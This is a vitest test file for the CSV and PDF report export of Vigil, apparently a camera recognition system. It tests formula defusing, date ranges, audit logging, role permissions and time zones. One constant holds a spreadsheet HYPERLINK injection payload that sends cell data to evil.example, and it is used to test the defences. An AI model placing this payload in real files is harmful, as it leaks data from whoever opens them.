import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ApiContext } from '../api/context.js';
import { Api } from '../api/dispatch.js';
import { handlers } from '../api/handlers/index.js';
import type { ExportedFile } from '../contract/contract.js';
import { ROLE_PERMISSIONS, type Role } from '../contract/roles.js';
import { Engine } from '../engine/engine.js';
import { AlertEngine } from '../notify/alerts.js';
import { insertAppearance } from '../store/appearances.js';
import { appendAudit, verifyAudit } from '../store/audit.js';
import { insertMember, setMemberStatus } from '../store/members.js';
import { insertUnknown } from '../store/unknowns.js';
import { parseCsv, pdfText } from '../testing/documents.js';
import { csvCell, toCsv } from './csv.js';
import { buildReport, normaliseRange, safeAuditDetails } from './queries.js';

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

describe('csv cells', () => {
  it('quotes per RFC 4180 and defuses formulas in text, not in numbers', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])
      expect(csvCell(s).replace(/^"/, '')[0]).toBe("'");
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell(null)).toBe('');
    const doc = toCsv(['a', 'b'], [['=x', 'y,"z"']]);
    expect(parseCsv(doc.replace(/^\uFEFF/, ''))).toEqual([
      ['a', 'b'],
      ["'=x", 'y,"z"'],
    ]);
  });

  it('reads a bare end date as the whole day and refuses a reversed range', () => {
    expect(normaliseRange('2024-05-03', '2024-05-05')).toEqual({
      from: '2024-05-03T00:00:00.000Z',
      to: '2024-05-05T23:59:59.999Z',
    });
    expect(() => normaliseRange('2024-05-05', '2024-05-03')).toThrow(/ends before it starts/);
  });

  it('keeps only scalar audit details', () => {
    expect(
      safeAuditDetails(JSON.stringify({ count: 3, who: 'x', v: [0.1, 0.2], long: 'y'.repeat(300) })),
    ).toBe('count=3; who=x; v=[omitted]; long=[omitted]');
  });
});

describe('reports over a real store', () => {
  let dir: string;
  let engine: Engine;
  let api: Api;
  const progress: [string, number, number][] = [];
  const ctx = (role: Role): ApiContext => ({
    engine,
    pipeline: null,
    user: { username: `${role}1`, role, permissions: [...ROLE_PERMISSIONS[role]] },
    session: 's',
    kiosk: false,
    pack: 'default',
    version: 'test',
    progress: (task, done, total) => progress.push([task, done, total]),
    broadcast: () => {},
  });
  const exportReport = async (params: Record<string, unknown>, role: Role = 'security') => {
    const r = await api.call(ctx(role), { method: 'reports.export', params });
    if (!r.ok) throw new Error(JSON.stringify(r.error));
    const file = r.result as ExportedFile;
    return { ...file, bytes: Buffer.from(file.data, 'base64') };
  };
  const day = (d: number, h = 12) =>
    `2024-05-${String(d).padStart(2, '0')}T${String(h).padStart(2, '0')}:00:00.000Z`;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'vigil-reports-'));
    engine = Engine.open({ dataDir: dir });
    api = new Api(handlers);
    const db = engine.store.sql;
    insertMember(db, 'MEMBER_aaaaaaaaaa', { name: 'Ann Ledger, "AL"' }, engine.recognizer.id, 0.8);
    insertMember(db, 'MEMBER_bbbbbbbbbb', { name: EVIL }, engine.recognizer.id, 0.8);
    insertMember(db, 'MEMBER_cccccccccc', { name: 'Hidden Person' }, engine.recognizer.id, 0.8);
    setMemberStatus(db, 'MEMBER_cccccccccc', 'restricted');
    insertUnknown(db, 'UNKNOWN_20240504_0000abcd', day(4), 'gate', 0.5, engine.recognizer.id);
    insertUnknown(db, 'UNKNOWN_20240509_0000ef01', day(9), 'lobby', 0.5, engine.recognizer.id);
    const seen = (id: string, kind: 'member' | 'unknown', d: number, cam: string, h = 12) =>
      insertAppearance(db, {
        person_kind: kind,
        person_id: id,
        camera_id: cam,
        source: 'camera',
        first_seen: day(d, h),
        last_seen: day(d, h),
        confidence: 0.71234,
        bbox: [1, 2, 3, 4],
      });
    db.transaction(() => {
      for (let d = 1; d <= 10; d++) {
        seen('MEMBER_aaaaaaaaaa', 'member', d, 'gate');
        seen('MEMBER_bbbbbbbbbb', 'member', d, 'lobby');
        seen('MEMBER_cccccccccc', 'member', d, 'gate');
      }
      seen('UNKNOWN_20240504_0000abcd', 'unknown', 4, 'gate');
      seen('UNKNOWN_20240509_0000ef01', 'unknown', 9, 'lobby');
      // A busy day for the progress reports.
      for (let i = 0; i < 1200; i++) seen('MEMBER_aaaaaaaaaa', 'member', 20, 'yard', 10);
    })();
    const alerts = new AlertEngine(engine.store, [], {}, () => Date.parse(day(4, 13)));
    alerts.handle({
      type: 'recognition',
      camera_id: 'gate',
      track_id: 1,
      kind: 'new_unknown',
      unknown_id: 'UNKNOWN_20240504_0000abcd',
      name: 'UNKNOWN_20240504_0000abcd',
      confidence: 0.4,
      bbox: [0, 0, 1, 1],
      frame_at: 0,
      at: 0,
    });
    await alerts.flush();
    appendAudit(db, { actor: 'cli', action: 'member_registered', subject: 'MEMBER_aaaaaaaaaa' }, day(3));
  });
  afterAll(() => engine?.close());

  it('exports appearances in the range as parseable CSV with names, UNKNOWN_ ids and defused formulas', async () => {
    const before = verifyAudit(engine.store.sql).rows;
    const f = await exportReport({
      kind: 'appearances',
      format: 'csv',
      from: '2024-05-03',
      to: '2024-05-05',
    });
    expect(f.mime).toMatch(/^text\/csv/);
    expect(f.filename).toBe('vigil-appearances-2024-05-03-to-2024-05-05.csv');
    const text = f.bytes.toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(text.slice(1));
    expect(header).toEqual([
      'ID',
      'First seen',
      'Last seen',
      'Camera',
      'Kind',
      'Person',
      'Name',
      'Confidence',
    ]);
    // 3 days x 3 members + the unknown seen on the 4th.
    expect(rows).toHaveLength(10);
    expect(f.rows).toBe(10);
    const name = (id: string) => rows.filter((r) => r[5] === id).map((r) => r[6]);
    expect(name('MEMBER_aaaaaaaaaa')).toEqual(['Ann Ledger, "AL"', 'Ann Ledger, "AL"', 'Ann Ledger, "AL"']);
    expect(name('MEMBER_bbbbbbbbbb')[0]).toBe(`'${EVIL}`);
    expect(name('MEMBER_cccccccccc')[0]).toBe('[restricted]');
    expect(name('UNKNOWN_20240504_0000abcd')).toEqual(['UNKNOWN_20240504_0000abcd']);
    expect(rows.every((r) => r[1]! >= '2024-05-03' && r[1]! < '2024-05-06')).toBe(true);
    expect(rows.find((r) => r[5] === 'MEMBER_aaaaaaaaaa')![7]).toBe('0.7123');
    const audit = engine.store.sql
      .prepare('SELECT * FROM audit_log ORDER BY audit_id DESC LIMIT 1')
      .get() as {
      action: string;
      actor: string;
      details: string;
    };
    expect(audit).toMatchObject({ action: 'data_exported', actor: 'user:security1' });
    expect(JSON.parse(audit.details)).toMatchObject({ kind: 'appearances', format: 'csv', rows: 10 });
    expect(verifyAudit(engine.store.sql)).toMatchObject({ ok: true, rows: before + 1 });
  });

  it('filters by camera, and lists unknowns and alerts of the range', async () => {
    const gate = await exportReport({
      kind: 'appearances',
      format: 'csv',
      from: '2024-05-01',
      to: '2024-05-10',
      cameras: ['lobby'],
    });
    const rows = parseCsv(gate.bytes.toString('utf8').slice(1)).slice(1);
    expect(rows).toHaveLength(11);
    expect(new Set(rows.map((r) => r[3]))).toEqual(new Set(['lobby']));

    const unknowns = await exportReport({
      kind: 'unknowns',
      format: 'csv',
      from: '2024-05-01',
      to: '2024-05-05',
    });
    const u = parseCsv(unknowns.bytes.toString('utf8').slice(1));
    expect(u.slice(1).map((r) => r[0])).toEqual(['UNKNOWN_20240504_0000abcd']);
    expect(u[1]![5]).toBe('1');
    expect(u[1]![6]).toBe('gate');

    const alerts = await exportReport({
      kind: 'alerts',
      format: 'csv',
      from: '2024-05-04',
      to: '2024-05-04',
    });
    const a = parseCsv(alerts.bytes.toString('utf8').slice(1)).slice(1);
    expect(a).toHaveLength(1);
    expect(a[0]!.slice(2, 7)).toEqual(['new_unknown', 'high', 'open', 'gate', 'UNKNOWN_20240504_0000abcd']);
  });

  it('exports the audit log without anything but ids and counts', async () => {
    const f = await exportReport(
      { kind: 'audit', format: 'csv', from: '2024-01-01', to: '2100-01-01' },
      'admin',
    );
    const rows = parseCsv(f.bytes.toString('utf8').slice(1));
    expect(rows[0]).toEqual(['ID', 'At', 'Actor', 'Action', 'Subject', 'Details']);
    expect(rows.some((r) => r[3] === 'data_exported' && r[5]!.includes('kind=appearances'))).toBe(true);
    expect(rows.some((r) => r[3] === 'member_registered' && r[4] === 'MEMBER_aaaaaaaaaa')).toBe(true);
  });

  it('reports progress every 500 rows of a long CSV and refuses a report over the row limit', async () => {
    progress.length = 0;
    const f = await exportReport({
      kind: 'appearances',
      format: 'csv',
      from: '2024-05-20',
      to: '2024-05-20',
    });
    expect(f.rows).toBe(1200);
    expect(parseCsv(f.bytes.toString('utf8').slice(1))).toHaveLength(1201);
    expect(progress).toEqual([
      ['report', 500, 1200],
      ['report', 1000, 1200],
      ['report', 1200, 1200],
    ]);
    expect(() =>
      buildReport(engine.store, 'appearances', { from: '2024-05-20', to: '2024-05-20' }, { maxRows: 1000 }),
    ).toThrow(/1200 rows, more than 1000/);
  });

  it('renders a long report as a paginated PDF, yielding to the event loop and reporting progress', async () => {
    progress.length = 0;
    let ticks = 0;
    const timer = setInterval(() => ticks++, 0);
    const f = await exportReport({
      kind: 'appearances',
      format: 'pdf',
      from: '2024-05-20',
      to: '2024-05-20',
    });
    clearInterval(timer);
    // The renderer gives the loop a turn after each 500 rows, so timers (cameras, sockets) still run.
    expect(ticks, `ticks ${ticks}`).toBeGreaterThanOrEqual(1);
    expect(f.mime).toBe('application/pdf');
    expect(f.rows).toBe(1200);
    expect(progress).toEqual([
      ['report', 500, 1200],
      ['report', 1000, 1200],
      ['report', 1200, 1200],
    ]);
    const { pages, text } = await pdfText(f.bytes);
    expect(pages).toBeGreaterThan(10);
    expect(text).toContain('Vigil - Appearances');
    expect(text).toContain(`page ${pages} of ${pages}`);
    expect(text.match(/First seen/g)!.length).toBe(pages);
    expect(text).toContain('Ann Ledger, "AL"');
    expect(text.match(/MEMBER_aaaaaaaaaa/g)!.length).toBe(1200);
  });

  it('refuses a report to a role without reports.export, and audits the refusal', async () => {
    const r = await api.call(ctx('operator'), {
      method: 'reports.export',
      params: { kind: 'audit', format: 'csv', from: '2024-01-01', to: '2024-12-31' },
    });
    expect(r).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
  });

  it('builds rows directly with the camera filter ignored for the audit log', () => {
    const r = buildReport(engine.store, 'audit', { from: '2024-05-03', to: '2024-05-03', cameras: ['gate'] });
    expect(r.rows.map((x) => x[3])).toEqual(['member_registered']);
  });

  it("writes times in the site's time zone, says which, and names the file by that zone's days", async () => {
    // The console picked 3–5 May in Paris: local midnight is 22:00 UTC the day before.
    const f = await exportReport({
      kind: 'appearances',
      format: 'csv',
      from: '2024-05-02T22:00:00.000Z',
      to: '2024-05-05T21:59:59.999Z',
      time_zone: 'Europe/Paris',
    });
    expect(f.filename).toBe('vigil-appearances-2024-05-03-to-2024-05-05.csv');
    const rows = parseCsv(f.bytes.toString('utf8').slice(1)).slice(1);
    // Stored 12:00 UTC is 14:00 in Paris in May, with its offset in the value.
    expect(rows.find((r) => r[5] === 'MEMBER_aaaaaaaaaa')![1]).toBe('2024-05-03T14:00:00+02:00');
    expect(rows.every((r) => /\+02:00$/.test(r[1]!) && /\+02:00$/.test(r[2]!))).toBe(true);

    const pdf = await exportReport({
      kind: 'appearances',
      format: 'pdf',
      from: '2024-05-02T22:00:00.000Z',
      to: '2024-05-05T21:59:59.999Z',
      time_zone: 'Europe/Paris',
    });
    expect(pdf.filename).toBe('vigil-appearances-2024-05-03-to-2024-05-05.pdf');
    const { text } = await pdfText(pdf.bytes);
    expect(text).toContain('Europe/Paris (UTC+02:00)');
    expect(text).toContain('2024-05-03T00:00:00+02:00');

    const bad = await api.call(ctx('security'), {
      method: 'reports.export',
      params: {
        kind: 'audit',
        format: 'csv',
        from: '2024-05-01',
        to: '2024-05-02',
        time_zone: 'Mars/Olympus',
      },
    });
    expect(bad).toMatchObject({
      ok: false,
      error: { message: 'There is no time zone called Mars/Olympus.' },
    });
  });
});
